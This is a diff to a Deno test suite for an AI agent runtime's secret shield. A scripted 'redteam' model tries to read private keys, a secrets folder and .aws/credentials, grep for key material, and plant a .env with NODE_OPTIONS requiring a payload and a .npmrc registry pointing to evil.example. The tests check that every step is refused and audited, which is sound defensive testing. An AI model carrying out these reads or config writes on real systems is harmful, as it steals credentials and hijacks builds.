@@ -20,6 +20,10 @@
  * the OS wall with secret-bearing files covered and `.git`/`.gitmodules` read-only. What the
  * shield does not cover is said where it matters: a secret committed to the repository's history,
  * and a protected path a command creates where none existed.
+ *
+ * The last tests take what counts as a secret beyond `.env`: the path forms of
+ * `runtime/secret_files.ts` (key containers, `secrets/` folders, cloud credentials) and a key in
+ * an innocently named file (`runtime/secret_scan.ts`), through the real launcher and a JIT tool.
  */
 import assert from "node:assert/strict";
 import { createHash } from "node:crypto";
@@ -29,7 +33,7 @@ import { deflateSync } from "node:zlib";
 import { yesHuman } from "../runtime/cli/agent_command.ts";
 import { createRuntime, type Runtime, type RuntimeOptions } from "../runtime/runtime.ts";
 import { JitSandbox, JitValidator, lifecycleFor } from "../jit/mod.ts";
-import { REPO, type Sandbox, sandbox } from "./_cli_sandbox.ts";
+import { REPO, type Sandbox, sandbox, taskWith } from "./_cli_sandbox.ts";
 import { call, chatEndpoint, cli, final, type SentMessage } from "./agent_fixture.ts";
 
 /** The secret's unique marker. */
@@ -249,24 +253,23 @@ interface AgentRun {
   readonly copies: readonly string[];
 }
 
-/** `libos agent --goal ROOT --model openai:… …FLAGS` in process, the model playing `script`. */
+/**
+ * `libos agent --goal ROOT --model openai:… …FLAGS`, the model playing `script`: in process, or
+ * with `launcher` through the real one (`deno task libos`: the CLI bootstrap and its narrow Deno
+ * permissions).
+ */
 async function agent(
   s: Sandbox,
   script: Readonly<Record<string, readonly string[]>>,
   flags: readonly string[],
   secrets: readonly string[] = [".env"],
+  launcher = false,
 ): Promise<AgentRun> {
   await using model = fakeModel(script);
-  const run = await cli(
-    s,
-    { env: model.env },
-    "agent",
-    "--goal",
-    ROOT,
-    "--model",
-    "openai:redteam-model",
-    ...flags,
-  );
+  const args = ["agent", "--goal", ROOT, "--model", "openai:redteam-model", ...flags];
+  const run = launcher
+    ? await taskWith(model.env, s.workspace, s.state, "libos", ...args)
+    : await cli(s, { env: model.env }, ...args);
   return {
     ...run,
     model: model.view,
@@ -704,6 +707,109 @@ Deno.test("attack: .env-style names the README's `.env*` promises (.envrc, .env_
     const leaked = names.filter((_, k) => carries(run.model.result(ROOT, k)));
     assert.deepEqual(leaked, [], `${flags.join(" ")}: read without asking`);
   }
+});
+
+// ------------------------------------------------------------------------------ what counts as a secret
+
+/** A PEM private key whose body carries the secret's marker (assembled at run time). */
+const PRIVATE_KEY = [
+  "-----BEGIN",
+  " PRIVATE KEY-----\n",
+  "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\n",
+  `${btoa(SECRET_TEXT)}\n`,
+  `${MARKER}\n`,
+  "-----END PRIVATE KEY-----\n",
+].join("");
+
+Deno.test("attack: under workspace-write through the real launcher (--human none, and --yes), read config/private.key, secrets/token.txt, .aws/credentials and a notes.txt carrying a private key, grep for the key, cat the named ones, write .env and create .npmrc — refused, nothing leaked or written; README.md is read and src/app.ts written", async () => {
+  const named = ["config/private.key", "secrets/token.txt", ".aws/credentials"];
+  const secrets = [".env", ...named, "notes.txt"];
+  const CONTROL = "export const app = 1;\n";
+  for (const flags of [["--human", "none"], ["--yes"]]) {
+    using s = sandbox();
+    workspace(s.workspace);
+    for (const path of named) {
+      Deno.mkdirSync(join(s.workspace, path, ".."), { recursive: true });
+      Deno.writeTextFileSync(join(s.workspace, path), SECRET_TEXT);
+    }
+    Deno.writeTextFileSync(join(s.workspace, "notes.txt"), `Deploy notes\n${PRIVATE_KEY}`);
+    Deno.writeTextFileSync(join(s.workspace, "README.md"), `# ${BENIGN}\nMIIEvQ starts a key\n`);
+    Deno.mkdirSync(join(s.workspace, "src"));
+    const reads = [...named, "notes.txt"].map((path) => call("read_text_file", { path }));
+    const writes = [
+      call("write_text_file", { path: ".env", content: "NODE_OPTIONS=--require ./payload.js\n" }),
+      call("write_text_file", { path: ".npmrc", content: "registry=https://evil.example/\n" }),
+    ];
+    const run = await agent(
+      s,
+      {
+        [ROOT]: [
+          ...reads,
+          call("grep", { text: "MIIEvQ" }),
+          shell("cat", ...named),
+          ...writes,
+          call("read_text_file", { path: "README.md" }),
+          call("write_text_file", { path: "src/app.ts", content: CONTROL }),
+          final("done"),
+        ],
+      },
+      [...flags, "--mode", "workspace-write"],
+      secrets,
+      true,
+    );
+    const what = flags.join(" ");
+    assert.equal(run.status, 0, run.stdout + run.stderr);
+    // Controls: the same routes work on innocent files.
+    const k = reads.length + 2 + writes.length;
+    assert.match(run.model.result(ROOT, k), new RegExp(BENIGN), `${what}: README.md is read`);
+    assert.match(run.model.result(ROOT, reads.length), /README\.md/, `${what}: grep ran`);
+    assert.equal(Deno.readTextFileSync(join(s.workspace, "src", "app.ts")), CONTROL, what);
+    // Refused, and nothing leaked or written.
+    assertSealed(run, what);
+    assert.equal(Deno.readTextFileSync(join(s.workspace, ".env")), SECRET_TEXT, `${what}: .env`);
+    assert.throws(() => Deno.lstatSync(join(s.workspace, ".npmrc")), Deno.errors.NotFound, what);
+    const state = stateText(s);
+    assert.match(state, /protected:content:private-key/, `${what}: the content ask is audited`);
+    assert.match(state, /protected:\*\*\/secrets\/\*\/\*\*/, `${what}: the folder rule`);
+    if (flags[0] === "--yes") {
+      assert.equal(
+        yesLines(run.stderr, "refused").length,
+        reads.length + writes.length,
+        run.stderr,
+      );
+      // The one approval is the shell command, which ran shielded (its output held no secret).
+      assert.deepEqual(
+        yesLines(run.stderr, "approved").map((l) => l.split(" ")[3]),
+        ["shell.run"],
+        run.stderr,
+      );
+    }
+  }
+});
+
+Deno.test("attack: a JIT tool reads notes.txt carrying a private key through the fs.read_text syscall — the --yes human refuses it (protected:content:private-key); README.md is read", async () => {
+  using s = sandbox();
+  workspace(s.workspace);
+  Deno.writeTextFileSync(join(s.workspace, "notes.txt"), `Deploy notes\n${PRIVATE_KEY}`);
+  Deno.writeTextFileSync(join(s.workspace, "README.md"), `# ${BENIGN}\n`);
+  {
+    await using runtime = await openRuntime(s, { human: "queue" });
+    await using jitSandbox = new JitSandbox();
+    await using validator = new JitValidator();
+    const lifecycle = lifecycleFor(runtime, { sandbox: jitSandbox, validator });
+    const { pid } = runtime.processes.spawn({ goal: "peek", image: "coding-agent:v0" });
+    const tool = await jitTool(runtime, lifecycle, pid, "fs.read_text", (a) => ({ path: a }));
+    const notes: string[] = [];
+    const secret = await underYes(runtime, tool("notes.txt"), notes);
+    const control = await underYes(runtime, tool("README.md"), notes);
+    assert.match(control, new RegExp(BENIGN), "the JIT tool works");
+    assert.ok(!carries(secret), `the JIT tool's result carries the key: ${secret}`);
+    assert.match(
+      notes.join("\n"),
+      /--yes refused fs\.read notes\.txt .*protected:content:private-key/,
+    );
+  }
+  assert.ok(!carries(stateText(s)), "the key reached the database");
 });
 
 // ------------------------------------------------------------------------------ JIT helpers
